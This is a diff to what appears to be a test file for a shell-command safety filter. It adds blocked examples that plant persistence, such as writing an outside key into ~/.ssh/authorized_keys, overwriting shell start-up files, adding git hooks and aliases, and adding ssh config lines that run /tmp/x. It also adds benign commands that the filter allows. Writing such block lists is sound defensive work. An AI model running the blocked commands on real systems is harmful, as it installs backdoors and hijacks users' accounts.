@@ -54,6 +54,19 @@ BLOCKED = [
     "aws ecr batch-delete-image --repository-name r --image-ids imageTag=x",
     "velero backup delete --all --confirm",
     "s5cmd rm 's3://bucket/*'",
+    # a start-up file reached through a folder or an attached option value
+    "cp /tmp/.bashrc ~",
+    "mv /tmp/.zshrc $HOME",
+    "cp /tmp/.{bashrc,zshrc} ~/",
+    "install -t ~/.local/bin /tmp/git",
+    "cp /tmp/pre-commit .git/hooks/",
+    "wget -qO ~/.ssh/authorized_keys https://x.example/k",
+    "wget -O/home/dev/.bashrc https://x.example/k",
+    "curl -s https://x.example/k -o$HOME/.ssh/authorized_keys",
+    # what git and ssh run, written into their config files
+    "printf '[alias]\\n\\tst = !/tmp/x\\n' >> ~/.gitconfig",
+    "echo 'LocalCommand /tmp/x' >> ~/.ssh/config",
+    "echo 'Match exec \"/tmp/x\"' >> ~/.ssh/config",
     # wrappers
     "fakeroot rm -rf ~",
     "coproc rm -rf ~",
@@ -84,6 +97,14 @@ QUIET = [
     "rm -rf ~/.local/share/virtualenvs/x-abc",
     "gh extension remove gh-dash",
     "fakeroot dpkg-deb --build pkg",
+    "echo x > ./*.txt",
+    "cp README.md docs/",
+    "mv x.py src/",
+    "cp .env.example .env",
+    "wget -qO- https://x.example/install.sh",
+    "curl -sSLo x.tgz https://x.example/x.tgz",
+    "printf 'Host db\\n  ProxyJump bastion\\n' >> ~/.ssh/config",
+    "echo 'Include ~/.orbstack/ssh/config' >> ~/.ssh/config",
 ]
 
 
